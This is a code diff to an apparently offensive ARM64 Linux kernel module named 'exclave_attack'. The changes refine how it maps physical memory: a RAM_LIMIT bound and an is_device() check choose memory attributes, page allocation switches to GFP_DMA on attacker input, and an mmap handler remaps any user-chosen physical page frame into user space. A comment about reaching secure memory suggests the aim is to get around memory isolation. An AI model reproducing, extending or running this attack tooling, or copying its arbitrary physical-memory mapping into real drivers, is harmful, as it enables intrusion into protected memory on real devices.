@@ -29,6 +29,7 @@
 #include "exclave_attack.h"
 
 #define RAM_BASE 0x40000000UL
+#define RAM_LIMIT 0x140000000UL /* more memory is refused at boot; PCI lies above */
 #define RET_INSTRUCTION 0xd65f03c0U
 #define THREAD_DEADLINE_MS 10000
 
@@ -81,9 +82,14 @@ static int take_oops_back(struct notifier_block *block, unsigned long event, voi
 
 static struct notifier_block die_notifier = { .notifier_call = take_oops_back, .priority = INT_MAX };
 
+static bool is_device(phys_addr_t address)
+{
+    return address < RAM_BASE || address >= RAM_LIMIT;
+}
+
 static pgprot_t protection_for(phys_addr_t address)
 {
-    return __pgprot(address < RAM_BASE ? PROT_DEVICE_nGnRE : PROT_NORMAL);
+    return __pgprot(is_device(address) ? PROT_DEVICE_nGnRE : PROT_NORMAL);
 }
 
 /* Maps the page of an address into the kernel's half (TTBR1). Secure memory is reserved without a linear mapping, so this is allowed. */
@@ -581,7 +587,7 @@ static void new_page(struct exclave_attack *attack)
     struct owned_page *owned = kzalloc(sizeof(*owned), GFP_KERNEL);
 
     if (owned)
-        owned->page = alloc_page(GFP_KERNEL | __GFP_ZERO);
+        owned->page = alloc_page(GFP_KERNEL | __GFP_ZERO | (attack->in[0] ? GFP_DMA : 0));
     if (!owned || !owned->page) {
         kfree(owned);
         attack->error = -ENOMEM;
@@ -678,7 +684,7 @@ static long attack_ioctl(struct file *file, unsigned int command, unsigned long 
 
 static int attack_mmap(struct file *file, struct vm_area_struct *vma)
 {
-    if (vma->vm_pgoff < RAM_BASE >> PAGE_SHIFT)
+    if (is_device((phys_addr_t)vma->vm_pgoff << PAGE_SHIFT))
         vma->vm_page_prot = pgprot_device(vma->vm_page_prot);
     return remap_pfn_range(vma, vma->vm_start, vma->vm_pgoff, vma->vm_end - vma->vm_start, vma->vm_page_prot);
 }
